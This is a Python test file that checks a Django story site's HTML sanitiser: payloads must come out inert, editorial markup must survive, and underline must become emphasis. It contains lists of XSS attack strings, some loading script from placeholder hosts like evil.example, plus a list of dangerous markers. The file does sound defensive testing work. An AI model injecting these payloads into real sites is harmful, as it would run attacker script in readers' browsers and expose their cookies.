"""Story bodies are sanitised on save: pasted HTML can never run in a reader's browser."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from articles.html import ALLOWED_TAGS, html_to_text, sanitize_html
from tests.factories import make_story

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<p onclick=\"alert(1)\" onmouseover='alert(2)'>hover</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<p style="color:red">styled</p>',
    "<!--<script>alert(1)</script>-->",
]

DANGEROUS = ("<script", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
             "javascript:", "vbscript:", "data:text", "<iframe", "<svg", "<object", "<embed",
             "<form", "<meta", "<link", "<style", "style=", "<input")  # fmt: skip


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_inert_after_sanitising(payload):
    cleaned = sanitize_html(payload).lower()
    for marker in DANGEROUS:
        assert marker not in cleaned, (payload, cleaned)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_saved_in_a_body_comes_out_inert_on_the_page(client, payload):
    story = make_story(body=f"<p>Before</p>{payload}<p>After</p>")
    story.refresh_from_db()
    assert "<script" not in story.body.lower() and "javascript:" not in story.body.lower()
    html = client.get(story.get_absolute_url()).text.lower()
    body = html[html.index('class="story__body"') : html.index('class="story__footer"')]
    for marker in DANGEROUS:
        assert marker not in body, (payload, body)


def test_editorial_markup_survives():
    html = (
        '<h2>Sub</h2><p><strong>b</strong> <em>i</em> <a href="https://example.org/x">link</a></p>'
        "<blockquote><p>q</p></blockquote><ul><li>one</li></ul>"
    )
    cleaned = sanitize_html(html)
    for fragment in ("<h2>Sub</h2>", "<strong>b</strong>", "<em>i</em>", "<blockquote>", "<li>"):
        assert fragment in cleaned
    assert 'href="https://example.org/x"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_underline_is_not_offered_and_underlined_words_become_emphasis():
    from articles.models.stories import BODY_EDITOR_EXTENSIONS

    assert "Underline" not in BODY_EDITOR_EXTENSIONS and "u" not in ALLOWED_TAGS
    assert sanitize_html("<p>An <u>important</u> point, <U class=x>twice</U>.</p>") == (
        "<p>An <em>important</em> point, <em>twice</em>.</p>"
    )
    assert sanitize_html("<ul><li>kept</li></ul>") == "<ul><li>kept</li></ul>"


@pytest.mark.django_db
def test_underlined_bodies_already_saved_become_emphasis_when_migrating():
    """Migration 0015's SQL, run on a body saved before underline was dropped."""
    from importlib import import_module

    from django.db import connection

    from articles.models import Story

    story = make_story(body="<p>Keep this.</p>")
    Story.objects.filter(pk=story.pk).update(body="<p>An <u>important</u> point.</p>")
    migration = import_module("articles.migrations.0015_underline_becomes_emphasis")
    with connection.cursor() as cursor:
        for statement in migration.SQL:
            cursor.execute(statement)
    story.refresh_from_db()
    assert story.body == "<p>An <em>important</em> point.</p>"


def test_empty_editor_output_is_an_empty_body():
    assert sanitize_html("<p></p>") == ""
    assert sanitize_html("<p><br></p>") == ""


def test_body_text_has_one_paragraph_per_line():
    assert html_to_text("<p>One &amp; two</p><h2>Three</h2><ul><li>Four</li></ul>") == (
        "One & two\nThree\nFour"
    )


# Vectors from OWASP's XSS Filter Evasion Cheat Sheet (attack strings are facts, not code).
OWASP_VECTORS = [
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72'
    '&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    '<a href="javas\x00cript:alert(1)">x</a>',
    "<a href=\"javascript&colon;alert('XSS')\">x</a>",
    "<a href=\"\\x6Aavascript:alert('XSS')\">x</a>",
    '<a href="//evil.example/%0Ajavascript:alert(1)">x</a>',
    '<math href="javascript:javascript:alert(1)">CLICKME</math>',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<video><source onerror="javascript:alert(1)"></video>',
    "<x contenteditable onfocus=alert(1) autofocus>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


class _Structure(HTMLParser):
    """Collects every tag and attribute the sanitised HTML would give a browser."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_filter_evasion_vector_leaves_only_allowed_inert_markup(vector):
    parser = _Structure()
    parser.feed(sanitize_html(vector))
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (vector, tag)
        assert set(attrs) <= {"href", "title", "rel"}, (vector, attrs)
        href = (attrs.get("href") or "").strip().lower()
        assert not href or urlsplit(href).scheme in {"", "http", "https", "mailto"}, (vector, href)
